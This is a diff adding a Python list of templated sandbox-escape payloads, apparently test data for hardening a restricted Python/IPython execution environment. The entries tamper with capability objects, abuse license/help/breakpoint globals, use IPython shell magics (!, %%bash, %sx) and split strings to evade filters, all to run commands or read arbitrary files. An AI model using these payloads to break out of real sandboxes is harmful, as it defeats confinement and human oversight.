@@ -1,0 +1,35 @@
+"""Capability tampering, site helpers, IPython magics and shell escapes."""
+
+PAYLOADS = [
+    ("capability_globals_os", "capability_tampering", "run_command",
+     "files.read.__globals__['os'].system(@C@)"),
+    ("capability_root_rewrite", "capability_tampering", "read_file",
+     "files._root = @S@.rsplit('/', 1)[0]\npwned = files.read(@S@.rsplit('/', 1)[1])"),
+    ("capability_type_forge", "capability_tampering", "read_file",
+     "pwned = type(files)(@S@.rsplit('/', 1)[0]).read(@S@.rsplit('/', 1)[1])"),
+    ("capability_patch_within", "capability_tampering", "read_file",
+     "type(files)._within = lambda self, p: p\npwned = files.read(@S@)"),
+    ("capability_object_setattr", "capability_tampering", "read_file",
+     "object.__setattr__(files, '_root', @S@.rsplit('/', 1)[0])\n"
+     "pwned = files.read(@S@.rsplit('/', 1)[1])"),
+    ("capability_rebind_name", "capability_tampering", "read_file",
+     "class Evil:\n    def read(self, p):\n        return p\nfiles = Evil()\n"
+     "pwned = len.__self__.open(@S@).read()"),
+    ("license_printer", "site_helpers_license_help_breakpoint", "read_file",
+     "license._Printer__filenames = [@S@]\nlicense._Printer__lines = None\nlicense()"),
+    ("help_repr_globals", "site_helpers_license_help_breakpoint", "run_command",
+     "help.__repr__.__globals__['sys'].modules['os'].system(@C@)"),
+    ("env_breakpoint", "site_helpers_license_help_breakpoint", "read_file",
+     "%env PYTHONBREAKPOINT=subprocess.getoutput\npwned = breakpoint(@C@)"),
+    ("getoutput", "ipython_shell_magics", "run_command",
+     "pwned = get_ipython().getoutput(@C@)"),
+    ("bang", "ipython_shell_magics", "run_command", "!@RAW@"),
+    ("bash_cell_magic", "ipython_shell_magics", "run_command", "%%bash\n@RAW@\n"),
+    ("shell_ex", "ipython_shell_magics", "run_command",
+     "get_ipython().ex('import os; os.system(%r)' % @C@)"),
+    ("sx_magic", "ipython_shell_magics", "run_command", "%sx @RAW@"),
+    ("user_ns_via_shell", "ipython_shell_magics", "read_file",
+     "ns = get_ipython().user_ns\nimport builtins\npwned = builtins.open(@S@).read()"),
+    ("run_line_magic_dynamic", "ipython_shell_magics", "run_command",
+     "name = 'sy' + 'stem'\nget_ipython().run_line_magic(name, @C@)"),
+]
